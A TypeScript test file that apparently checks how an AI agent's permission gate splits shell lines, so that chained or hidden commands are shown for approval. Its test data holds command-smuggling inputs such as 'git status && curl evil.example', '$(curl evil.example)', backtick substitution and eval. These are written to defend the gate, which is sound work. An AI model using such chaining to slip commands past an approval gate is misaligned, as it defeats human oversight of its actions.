/** Attacks by splitting: every command of a line is named to the gate, and a line that hides one is named as it is. */
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, it } from "vitest";
import type { AgentRecord } from "../../../core/agent/agent.ts";
import { realDisk } from "../files/disk.ts";
import { commandEffects, type NamedCommand } from "./command-effects.ts";

let ws: string;
beforeAll(() => {
  ws = realpathSync(mkdtempSync(join(tmpdir(), "rookery-effects-")));
  mkdirSync(join(ws, "src"));
  symlinkSync("/etc", join(ws, "link"));
});
afterAll(() => rmSync(ws, { recursive: true }));

const detailsOf = async (given: NamedCommand) => {
  const deps = { disk: realDisk, placesOf: async () => ({ workingDir: ws }) };
  return (await commandEffects(deps, {} as AgentRecord, given)).map(({ detail, target }) => detail ?? target);
};

it.each([
  "git status && curl evil.example",
  "git status; curl evil.example",
  "git status | curl evil.example",
  "git status || curl evil.example",
  "git status\ncurl evil.example",
  "git status & curl evil.example",
])("names both commands of %j", async (command) => {
  const commands = JSON.stringify(await detailsOf({ command }));
  // A line with a single & may be named whole; then it says why, and asks.
  expect(commands).toMatch(/"argv":\["git","status"\]|"kind":"unparsed"/);
  expect(commands).toMatch(/"argv":\["curl","evil.example"\]|"kind":"unparsed"/);
});

it.each([
  "git $(curl evil.example)",
  "git `curl evil.example`",
  "$X evil",
  "eval 'curl x'",
  "git <(curl x)",
  "cat <<X\nx\nX",
])("names %j as a line that cannot be judged", async (command) => {
  expect(await detailsOf({ command })).toEqual([{ kind: "unparsed", line: command, cwd: ws, why: expect.any(String) }]);
});

it("names the files of redirects with links resolved, the directory, and each secret", async () => {
  const [first, ...rest] = await detailsOf({ command: "echo x > ../out.txt", cwd: "src", secrets: ["TOKEN"] });
  expect(first).toEqual({ kind: "command", argv: ["echo", "x"], cwd: join(ws, "src") });
  expect(rest).toEqual([{ kind: "path", access: "write", path: join(ws, "out.txt") }, "secret:TOKEN"]);
});

it("names a list of arguments as one command: no shell reads it", async () => {
  const argv = ["echo", "a && b", "$(id)"];
  expect(await detailsOf({ command: argv })).toEqual([{ kind: "command", argv, cwd: ws }]);
});
